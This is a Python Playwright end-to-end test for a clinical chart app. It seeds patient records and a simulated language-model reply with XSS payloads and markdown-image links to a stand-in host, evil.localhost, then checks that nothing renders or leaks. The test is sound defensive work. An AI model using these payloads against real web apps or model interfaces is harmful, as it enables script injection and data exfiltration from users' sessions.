"""Hostile text of a chart and of a language model on the screen: shown as text, and no request leaves for it."""

import gzip
import json
import os
from pathlib import Path

import pytest
from playwright.sync_api import Dialog, expect

from tests.doubles import streams
from tests.doubles.provider import STREAM_HEAD, Connection, Provider, refuses
from tests.e2e.conftest import NewContext, panel, started
from tests.e2e.test_main_job import answered, ask
from tests.requirements import requirement

pytestmark = pytest.mark.e2e
CHART = '<img src="http://evil.localhost/chart" onerror="alert(1)"><script>alert(2)</script>'
MODEL = (
    "![leak](http://evil.localhost/?q=1) <img src=http://evil.localhost/2 onerror=alert(3)> "
    "[go](javascript:alert(4)) [out](http://evil.localhost/3) <http://evil.localhost/4> "
    "![ref][r]\n\n[r]: http://evil.localhost/5\n\n<svg onload=alert(6)></svg> done\n"
)


def writes(connection: Connection) -> None:
    body = connection.provider.asked[-1].body or {}
    if not body.get("stream"):
        return refuses(404)(connection)
    return connection.send(STREAM_HEAD + b"".join(streams.anthropic_text(pieces=(MODEL,))))


@requirement("attack-52", "attack-53")
def test_hostile_text_is_text_and_nothing_leaves_for_it(
    tmp_path: Path, new_context: NewContext
) -> None:
    page = new_context().new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    spoken: list[str] = []

    def refuse(dialog: Dialog) -> None:
        spoken.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", refuse)
    models = tmp_path / "models.toml"
    with Provider(writes) as writer:
        models.write_text(
            '[[model]]\nid = "writer"\nlabel = "Writer"\ndialect = "anthropic"\nclient = "anthropic"\nmodel = "w-1"\n'
            f'base_url = "{writer.url}"\nlocal = true\nkey_env = "DOUBLE_KEY"\ndata_handling = "here"\n'
        )
        environ = {
            **os.environ,
            "SANDBOX_CHARTS": str(hostile_chart(tmp_path / "chart")),
            "CHARTSIDE_MODELS": str(models),
            "DOUBLE_KEY": "none",
        }
        with started(tmp_path, environ) as servers:
            page.goto(f"{servers.ehr}/chart/hostile?app=chartside")
            expect(panel(page).locator(".card")).to_contain_text("penicillin")
            expect(panel(page).locator(".b-name")).to_contain_text("<IMG SRC=")
            ask(page, "What problems are active?")
            answered(page)
            expect(panel(page).locator("article.turn")).to_contain_text("done")
            for hostile in (
                "img",
                "script:not([src]):not([type])",
                "svg[onload]",
                "a[href^=javascript]",
            ):
                assert panel(page).locator(f"body {hostile}").count() == 0, hostile
    assert spoken == []
    assert [address for address in asked if "evil" in address] == []


def hostile_chart(folder: Path) -> Path:
    folder.mkdir()
    subject = {"reference": "Patient/hostile"}
    active = {"coding": [{"code": "active"}]}
    resources = [
        {"resourceType": "Practitioner", "id": "hostile-doctor", "name": [{"family": f"Osei {CHART}"}]},
        {"resourceType": "Patient", "id": "hostile", "gender": "female", "birthDate": "1958-03-14",
         "name": [{"family": CHART, "given": [CHART]}], "text": {"status": "generated", "div": f"<div>{CHART}</div>"}},
        {"resourceType": "Condition", "id": "hostile-1", "subject": subject, "clinicalStatus": active,
         "code": {"text": f"asthma {CHART}", "coding": [{"display": CHART}]}},
        {"resourceType": "AllergyIntolerance", "id": "hostile-2", "patient": subject, "clinicalStatus": active,
         "code": {"text": f"penicillin {CHART}"}},
    ]  # fmt: skip
    lines = "\n".join(json.dumps(resource) for resource in resources)
    (folder / "chart.ndjson.gz").write_bytes(gzip.compress(lines.encode(), mtime=0))
    manifest = {"name": "hostile", "title": "hostile", "patient": "hostile", "as_of": "2026-11-20T08:42:00-06:00"}  # fmt: skip
    (folder / "manifest.json").write_text(json.dumps(manifest))
    return folder
